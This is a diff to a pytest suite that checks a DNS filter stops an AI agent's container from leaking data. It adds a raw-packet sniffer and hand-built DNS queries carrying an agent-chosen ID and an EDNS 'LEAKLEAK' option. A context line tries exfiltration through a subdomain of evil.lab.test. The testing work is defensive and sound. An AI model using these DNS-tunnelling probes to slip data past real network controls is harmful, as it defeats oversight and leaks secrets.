@@ -12,6 +12,7 @@ from __future__ import annotations
 import json
 import secrets
 import shlex
+import struct
 import time
 
 import pytest
@@ -126,6 +127,73 @@ def test_the_agent_cannot_reach_the_upstream_directly(dlab, dns):
     answered, out = lookup(dlab, "filt-1", f"{payload}.evil.lab.test", upstream)
     assert not answered, out
     assert payload not in upstream_log(dlab)
+
+
+SNIFF_LOG = "/var/log/upstream-dns.hex"
+SNIFF = f"""
+import socket, struct
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+open("{SNIFF_LOG}.ready", "w").close()
+with open("{SNIFF_LOG}", "a") as log:
+    while True:
+        ip = s.recv(65535)[14:]
+        if len(ip) < 28 or ip[9] != 17:
+            continue
+        udp = ip[(ip[0] & 15) * 4:]
+        if struct.unpack("!H", udp[2:4])[0] == 53:
+            log.write(udp[8:].hex() + "\\n")
+            log.flush()
+"""
+ASK = """
+import socket, struct, sys
+def query(name, qtype, qid, option=b""):
+    head = struct.pack("!6H", qid, 0x0100, 1, 0, 0, 1)
+    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\\0"
+    opt = b"\\0" + struct.pack("!HHIH", 41, 4096, 0, len(option)) + option
+    return head + labels + struct.pack("!HH", qtype, 1) + opt
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+for qtype in (1, 16, 255, 65000):
+    s.sendto(query(sys.argv[2], qtype, 0xBEEF, struct.pack("!HH", 65001, 8) + b"LEAKLEAK"), (sys.argv[1], 53))
+    try:
+        r = s.recv(4096)
+        print(qtype, r[3] & 15, socket.inet_aton(sys.argv[3]) in r[12:])
+    except socket.timeout:
+        print(qtype, "timeout", False)
+"""
+
+
+def sniffed(lab: Lab) -> list[bytes]:
+    """Every DNS query that arrived at the upstream's host, as bytes (the sniffer's log)."""
+    return [bytes.fromhex(line) for line in sh(lab, f"cat {SNIFF_LOG}", host=1).stdout.split()]
+
+
+def test_a_query_reaches_the_upstream_rebuilt_and_nothing_the_agent_chose_with_it(dlab, dns):
+    """From inside the agent's network namespace: a mixed-case name, query ID 0xBEEF and an EDNS option
+    of the agent's, for A, TXT, ANY and type 65000. The upstream's host sniffs every DNS packet that
+    arrives: the A query arrives (the control), lower-cased, under another ID, with no option of the
+    agent's; the other types are answered on the agent's host and never arrive."""
+    sh(dlab, f"rm -f {SNIFF_LOG}*; setsid python3 -c {shlex.quote(SNIFF)} >/dev/null 2>&1 & echo $! > {SNIFF_LOG}.pid; "
+             f"for i in $(seq 50); do [ -e {SNIFF_LOG}.ready ] && break; sleep 0.1; done", host=1)  # fmt: skip
+    try:
+        pid = sh(dlab, f"docker inspect -f '{{{{.State.Pid}}}}' {user_name(FLEET, 'filt-1')}").stdout.strip()
+        asked = sh(dlab, f"nsenter -t {pid} -n python3 -c {shlex.quote(ASK)} {dns['gateway']} AlLoWeD.lab.TEST "
+                         f"{shlex.quote(dns['pub'])}").stdout.splitlines()  # fmt: skip
+        time.sleep(0.5)
+        got = sniffed(dlab)
+    finally:
+        sh(dlab, f"kill $(cat {SNIFF_LOG}.pid) || true", host=1)
+    assert asked[0] == "1 0 True", asked  # the A query was answered with the service's address
+    assert all(line.split()[1] not in ("0", "timeout") for line in asked[1:]), asked  # refused, on the host
+    lowered = b"\x07allowed\x03lab\x04test\x00"
+    ours = [q for q in got if lowered in q.lower()]
+    assert ours, f"control failed: the sniffer saw no query for the name ({len(got)} packets)"
+    for q in ours:
+        assert lowered in q, q  # lower-cased
+        assert q[:2] != b"\xbe\xef" and b"LEAKLEAK" not in q, q  # another ID; no option of the agent's
+        qtype = struct.unpack("!H", q[q.index(lowered) + len(lowered) : q.index(lowered) + len(lowered) + 2])[0]
+        assert qtype in (1, 28, 5), qtype  # never TXT, ANY or 65000
+    assert not any(b"LEAKLEAK" in q for q in got)
 
 
 def test_each_agent_has_its_own_filter(dlab, dns):
